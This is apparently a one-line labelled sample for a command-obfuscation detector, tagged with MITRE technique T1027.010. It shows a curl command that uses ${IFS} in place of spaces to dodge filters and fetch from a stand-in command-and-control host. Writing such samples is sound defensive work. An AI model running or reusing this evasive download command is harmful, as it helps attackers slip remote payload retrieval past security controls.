# expect: disguised-command | source: T1027.010
curl${IFS}-s${IFS}https://c2.example.invalid/i
